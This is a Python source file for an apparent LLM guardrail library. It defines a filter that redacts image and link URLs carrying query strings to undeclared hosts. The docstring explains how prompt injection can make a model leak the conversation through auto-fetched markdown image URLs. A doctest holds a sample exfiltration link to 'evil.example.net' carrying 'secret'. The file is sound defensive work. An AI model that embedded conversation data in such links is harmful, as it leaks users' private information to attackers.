"""Output filter for links that would carry data out when the answer is rendered.

A chat UI that renders ``![x](https://host/p.png?d=...)`` fetches the URL at once, with no
click: a prompt injection that makes the model write the conversation into such a query
string has exfiltrated it. Images and links whose URL carries a query string to a host the
system did not declare are redacted (by default) from the model's answer.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

from blastwall.sdk.enums import FilterAction, Stage
from blastwall.sdk.filters.base import Filter, Rule

# A URL with a query string, found from its "http" (a fast literal); the markdown or HTML
# around it ("![alt](", '<img src="') is taken in by looking back (see _undeclared).
_LINK = r"https?://[^\s\"'<>()]{1,400}\?[^\s\"'<>()]{1,2000}"
_OPENER = re.compile(
    r"(?:!?\[[^\]\n]{0,200}\]\(\s*|<(?:img|a|iframe|script)\b[^>]{0,200}?=\s*[\"']?)$"
)


class ExfiltrationLinks(Filter):
    """Images and links with a query string to hosts outside ``allowed_hosts`` (output only).

    ``allowed_hosts`` holds host names the app links to on purpose; a sub-domain of one is
    allowed too. Links without a query string are left alone: they carry nothing out.

    >>> flt = ExfiltrationLinks(allowed_hosts=["shop.example.com"])
    >>> flt.scan("see ![a](https://evil.example.net/p.png?q=secret) or https://shop.example.com/?id=1")
    [Match(category='exfiltration_link', start=4, end=49)]
    """

    name = "exfiltration_links"
    stages = (Stage.output,)

    def __init__(
        self,
        *,
        allowed_hosts: Iterable[str] = (),
        action: FilterAction | str = FilterAction.redact,
        name: str | None = None,
    ) -> None:
        self.allowed_hosts = tuple(h.lower().strip(".") for h in allowed_hosts)
        rule = Rule("exfiltration_link", _LINK, self._undeclared, ("http",))
        super().__init__([rule], name=name, action=action, flags=re.IGNORECASE)

    def _undeclared(self, text: str, m: re.Match[str]) -> tuple[int, int] | None:
        try:
            host = (urlsplit(m.group()).hostname or "").lower()
        except ValueError:
            return m.span()  # a URL the parser refuses is not one the app declared
        if any(host == h or host.endswith("." + h) for h in self.allowed_hosts):
            return None
        start, end = m.span()
        opener = _OPENER.search(text, max(0, start - 240), start)
        if opener is not None:
            start = opener.start()
            if end < len(text) and text[end] in ")\"'":
                end += 1
        return start, end

    def placeholder(self, category: str) -> str:
        return "[LINK REMOVED]"
